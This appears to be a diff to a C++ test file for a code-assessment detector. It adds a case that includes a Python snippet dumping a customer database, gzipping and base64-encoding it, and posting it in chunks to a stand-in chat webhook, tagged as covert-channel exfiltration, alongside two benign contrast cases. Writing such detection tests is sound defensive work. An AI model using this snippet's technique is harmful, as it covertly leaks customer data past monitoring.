@@ -182,5 +182,38 @@ TEST(HundredAndFiftyFifthRoundClasses, PairsOfOneOfSeveralDictsStayWhole) {
   for (const auto& c : cases) check(c);
 }
 
+// A database's tables gzipped, base64-encoded and posted in chunks as chat
+// messages to a webhook on a host no list names (hooks.<vendor>/services/
+// T.../B.../...): nobody reads base64 in a channel. A chat webhook is now
+// known by its URL's shape as well as by its vendor's host. Twins: counts
+// from the same tables posted to the same webhook, and a file's base64 in an
+// ordinary API's documented field.
+TEST(HundredAndFiftyFifthRoundClasses, EncodedFileContentsInChatMessagesAreSmuggled) {
+  const Case cases[] = {
+      {"a database's rows gzipped and base64-encoded into chat messages", B,
+       "import base64, gzip, json, sqlite3, requests\n"
+       "rows = [dict(r) for r in sqlite3.connect('erp.sqlite3').execute('SELECT * FROM customers')]\n"
+       "blob = base64.b64encode(gzip.compress(json.dumps(rows).encode())).decode()\n"
+       "for i in range(0, len(blob), 1800):\n"
+       "    requests.post('https://hooks.chatrelay.example/services/T07QF2/B0AA91/x9',\n"
+       "                  json={'text': blob[i:i + 1800]}, timeout=20)\n",
+       "COVERT-CHANNEL-EXFILTRATION"},
+      {"a count from the same tables posted to the same webhook", L,
+       "import sqlite3, requests\n"
+       "rows = list(sqlite3.connect('erp.sqlite3').execute('SELECT status FROM quotes'))\n"
+       "open_quotes = sum(1 for r in rows if r[0] == 'open')\n"
+       "requests.post('https://hooks.chatrelay.example/services/T07QF2/B0AA91/x9',\n"
+       "              json={'text': f'{open_quotes} open quotes'}, timeout=20)\n"},
+      {"a file's base64 in an API's content field", L,
+       "import base64, os, requests\n"
+       "from pathlib import Path\n"
+       "content = base64.b64encode(Path('docs/index.md').read_bytes()).decode()\n"
+       "requests.put('https://api.github.example/repos/acme/site/contents/docs/index.md',\n"
+       "             headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']},\n"
+       "             json={'message': 'update docs', 'content': content}, timeout=20)\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
